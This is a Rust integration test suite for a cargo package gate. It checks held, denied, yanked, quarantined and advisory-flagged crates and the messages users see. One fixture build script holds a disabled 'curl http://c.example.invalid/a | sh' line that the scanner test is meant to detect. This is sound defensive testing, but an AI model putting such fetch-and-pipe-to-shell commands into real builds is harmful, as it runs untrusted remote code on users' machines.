//! The cargo door with the real cargo, by source replacement: range, exact pin and lock; allowed, held, denied, gone; and
//! the words a person sees.

use std::time::{Duration, Instant};

use fanlight_testkit::{Advisory, CrateRelease, Node, Request, State, Upstream, get, wait_for};
use fanlight_tests::{CargoRoom as Room, published_an_hour_ago, record_of, records_of, refuse};
use jiff::{SignedDuration, Timestamp};

struct Scene {
    upstream: Upstream,
    node: Node,
    state: State,
    opens: String,
}

impl Scene {
    fn index(&self) -> String {
        format!("{}/cargo/", self.node.url())
    }

    fn room(&self, needs: &str) -> Room {
        Room::new(needs, &self.index())
    }

    /// A room with a lock that was made before there was a Fanlight, led to the door afterwards.
    fn locked(&self, needs: &str) -> Room {
        let room = Room::new(needs, &self.upstream.cargo_url());
        room.cargo(&["generate-lockfile"]).ok();
        room.lead_to(&self.index());
        room
    }
}

fn scene() -> Scene {
    let (published, opens) = published_an_hour_ago();
    let upstream = Upstream::start();
    for release in [
        CrateRelease::new("calm", "1.0.0").requires("Calm_Part", "^3"),
        CrateRelease::new("Calm_Part", "3.1.0"),
        CrateRelease::new("eager", "1.0.0"),
        CrateRelease::new("eager", "1.1.0").published(published),
        CrateRelease::new("badlib", "1.0.0"),
        CrateRelease::new("old", "1.0.0").yanked(),
        CrateRelease::new("fading", "1.0.0"),
        CrateRelease::new("fading", "1.1.0"),
    ] {
        upstream.add_crate(&release);
    }
    let state = State::before(&upstream, "");
    state.policy("company.cedar", &refuse("badlib"));
    let node = state.start();
    Scene { upstream, node, state, opens }
}

#[test]
fn cargo_gets_what_is_allowed_and_its_lock_stays_as_it_is() {
    let scene = scene();
    let room = scene.room("calm = \"1\"");
    room.cargo(&["fetch"]).ok();
    assert!(room.locks("Calm_Part", "3.1.0"), "{}", room.lock());
    // Made without Fanlight, it is the same to the byte: origin, checksums and all.
    let elsewhere = scene.locked("calm = \"1\"");
    assert_eq!(room.lock(), elsewhere.lock());
    elsewhere.cargo(&["fetch", "--locked"]).ok();
    room.cargo(&["check", "--offline", "--locked"]).ok();
    let fetched = records_of(&scene.state, "packages:fetch-file");
    assert!(fetched.iter().any(|record| record["on"]["id"] == "pkg:cargo/calm_part@3.1.0"), "{fetched:?}");
    scene.state.cli(&["why", "pkg:cargo/eager"]).ok().says("1.1.0").says("held");
    scene.state.cli(&["who", "pkg:cargo/calm@1.0.0"]).ok();
    scene.state.cli(&["status"]).ok().says("cargo").says(&scene.upstream.cargo_url());
}

#[test]
fn what_is_held_is_passed_over_and_a_lock_of_it_is_told_why() {
    let scene = scene();
    let room = scene.room("eager = \"1\"");
    room.cargo(&["fetch"]).ok().keeps_quiet_about("wait").keeps_quiet_about("yanked");
    assert!(room.locks("eager", "1.0.0"), "{}", room.lock());
    scene.room("eager = \"=1.1.0\"").cargo(&["fetch"]).fails().says("1.1.0").says("yanked");
    let said = scene.locked("eager = \"=1.1.0\"").cargo(&["fetch", "--locked"]).fails();
    said.says(&format!("Held until {}", scene.opens))
        .says("eager 1.1.0 was published")
        .says("new releases wait 7 days here")
        .says("Use 1.0.0 instead")
        .says("fanlight why pkg:cargo/eager");
    let said = scene.locked("badlib = \"1\"").cargo(&["fetch", "--locked"]).fails();
    said.says("Denied: badlib is not used here: security withdrew it").says("use goodlib instead");
    scene.room("badlib = \"1\"").cargo(&["fetch"]).fails().says("yanked");
    scene.room("nosuch = \"1\"").cargo(&["fetch"]).fails().says("no matching package");
    // What its makers yanked stays so, and a lock of it goes on working.
    scene.room("old = \"1\"").cargo(&["fetch"]).fails().says("yanked");
}

#[test]
fn the_tag_changes_when_a_hold_ends() {
    let upstream = Upstream::start();
    upstream.add_crate(&CrateRelease::new("eager", "1.0.0"));
    let published = Timestamp::now() - SignedDuration::from_secs(7 * 86_400 - 8);
    upstream.add_crate(&CrateRelease::new("eager", "1.1.0").published(published));
    let state = State::before(&upstream, "");
    let node = state.start();
    let address = format!("{}/cargo/ea/ge/eager", node.url());
    let held = get(&address).is(200);
    let tag = held.header("etag").expect("a tag").to_owned();
    let lines = String::from_utf8(held.body).expect("text");
    let yanked = |line: &str| serde_json::from_str::<serde_json::Value>(line).expect("JSON")["yanked"].clone();
    assert_eq!(lines.lines().map(yanked).collect::<Vec<_>>(), [false, true]);
    let again = |tag: &str| Request::get(&address).header("If-None-Match", tag).send();
    again(&tag).is(304);
    let archive = format!("{}/cargo/archives/eager/1.1.0/download", node.url());
    let refused = get(&archive).is(403).says("new releases wait 7 days here");
    assert_eq!(record_of(&state, &refused)["decision"]["outcome"], "hold");
    let began = Instant::now();
    let opened = wait_for("the hold's end", Duration::from_secs(20), || {
        let answer = again(&tag);
        (answer.status == 200).then_some(answer)
    });
    assert!(began.elapsed() < Duration::from_secs(20));
    assert_ne!(opened.header("etag"), Some(tag.as_str()));
    get(&archive).is(200);
}

#[test]
fn an_archive_with_another_checksum_is_never_given_whole() {
    let upstream = Upstream::start();
    upstream.add_crate(&CrateRelease::new("liar", "1.0.0").with_wrong_checksum().padded(300_000));
    let state = State::before(&upstream, "");
    let node = state.start();
    let answer = get(&format!("{}/cargo/archives/liar/1.0.0/download", node.url()));
    assert!(answer.status != 200 || !answer.complete, "{answer:?}");
    assert!(state.blobs().is_empty(), "nothing of it is kept");
    let config = get(&format!("{}/cargo/config.json", node.url())).is(200).json();
    assert_eq!(config, serde_json::json!({"dl": format!("{}/cargo/archives", node.url())}));
    let config = get(&format!("{}/cargo/with-token/config.json", node.url())).is(200).json();
    assert_eq!(config["auth-required"], true);
    get(&format!("{}/cargo/xx/yy/liar", node.url())).is(404).says("li/ar/liar");
}

#[test]
fn whoever_leads_cargo_to_a_door_without_an_upstream_is_told() {
    let upstream = Upstream::start();
    let state = State::before(&upstream, "");
    state.configure(&format!("[packages.pypi]\nupstream = \"{}\"\n", upstream.simple_url()));
    let _node = state.start();
    let room = tempfile::tempdir().expect("a folder");
    let cli = |args: &[&str]| state.command(args).env("CARGO_HOME", room.path()).output();
    cli(&["use", "cargo"]).ok().says("The node has no upstream for cargo yet").says("fanlight use cargo --undo");
    cli(&["use", "cargo", "--undo"]).ok();
}

#[test]
fn cargo_is_led_to_the_door_by_its_own_settings_and_back() {
    let scene = scene();
    let room = scene.room("calm = \"1\"");
    let settings = room.cargo_home().join("config.toml");
    let before = "[net]\nretry = 0\n\n[source.crates-io]\nreplace-with = \"elsewhere\"\n[source.elsewhere]\nregistry = \
                  \"sparse+http://127.0.0.1:9/\"\n";
    std::fs::write(&settings, before).expect("settings");
    let cli = |args: &[&str]| scene.state.command(args).env("CARGO_HOME", room.cargo_home()).output();
    cli(&["use", "cargo", "--print"]).ok().says("/cargo/with-token/");
    cli(&["use", "cargo"]).ok();
    room.cargo(&["fetch"]).ok();
    assert!(room.locks("calm", "1.0.0"), "{}", room.lock());
    for action in ["packages:read-index", "packages:fetch-file"] {
        let records = records_of(&scene.state, action);
        assert_eq!(records.last().expect("a record")["facts"]["strength"], "device-token", "{action}");
    }
    cli(&["use", "cargo", "--undo"]).ok();
    assert_eq!(std::fs::read_to_string(&settings).expect("settings"), before);
}

/// Reads as fetching a program and running it, and does nothing: no variable of that name is ever set.
const FETCHES: &str = "fn main() {\n    if std::env::var(\"NEVER_SET_ANYWHERE\").is_ok() {\n        std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://c.example.invalid/a | sh\").status().unwrap();\n    }\n}\n";

#[test]
fn cargo_is_told_what_the_scan_found_and_what_an_advisory_calls_malicious() {
    let upstream = Upstream::start();
    for release in [
        CrateRelease::new("harmful", "1.0.0").with_build(FETCHES),
        CrateRelease::new("harmful", "0.9.0").days_old(60),
        CrateRelease::new("evil", "1.0.0"),
    ] {
        upstream.add_crate(&release);
    }
    let state = State::before(&upstream, "");
    state.advise(&Advisory::cargo("RUSTSEC-2026-0001", "holey").critical());
    state.advise(&Advisory::cargo("MAL-2026-78", "evil").summary("it reads keys"));
    let settings = format!("[advisories]\nsources = [{:?}]\n", state.feed().display().to_string());
    state.configure(&State::config(&upstream, "7d", &settings));
    let node = state.start();
    let index = format!("{}/cargo/", node.url());
    let room = Room::new("harmful = \"=1.0.0\"", &index);
    room.cargo(&["fetch"]).fails().says("the scan of harmful-1.0.0.crate found: downloads something and runs it");
    // A lock that was made before there was a Fanlight.
    let room = Room::new("evil = \"1\"", &upstream.cargo_url());
    room.cargo(&["generate-lockfile"]).ok();
    room.lead_to(&index);
    room.cargo(&["fetch", "--locked"]).fails().says("evil 1.0.0 is malicious (MAL-2026-78: it reads keys)");
    let room = Room::new("harmful = \">=0.9\"", &index);
    room.cargo(&["fetch"]).ok();
    assert!(room.locks("harmful", "0.9.0"), "{}", room.lock());
}

#[test]
fn a_quarantine_stops_a_release_at_once_and_lists_who_has_it() {
    let scene = scene();
    let room = scene.room("fading = \"1\"");
    room.cargo(&["fetch"]).ok();
    assert!(room.locks("fading", "1.1.0"), "{}", room.lock());
    wait_for("the fetch to be known", Duration::from_secs(10), || {
        (scene.state.cli(&["who", "pkg:cargo/fading@1.1.0"]).code == Some(0)).then_some(())
    });
    let done = scene.state.cli(&["quarantine", "pkg:cargo/fading@1.1.0", "--because", "it steals tokens"]).ok();
    let began = Instant::now();
    let line = get(&format!("{}fa/di/fading", scene.index())).is(200);
    assert!(began.elapsed() < Duration::from_secs(1), "{:?}", began.elapsed());
    let withheld =
        line.text().lines().find(|line| line.contains("\"1.1.0\"")).map(|line| line.contains("\"yanked\":true"));
    assert_eq!(withheld, Some(true), "{}", line.text());
    done.says("unidentified").says("fading-1.1.0.crate");
    // The same lock, with nothing of it left on the machine.
    room.lead_to(&scene.index());
    room.cargo(&["fetch", "--locked"]).fails().says("quarantined here since").says("it steals tokens");
    let fresh = scene.room("fading = \"1\"");
    fresh.cargo(&["fetch"]).ok();
    assert!(fresh.locks("fading", "1.0.0"), "{}", fresh.lock());
}
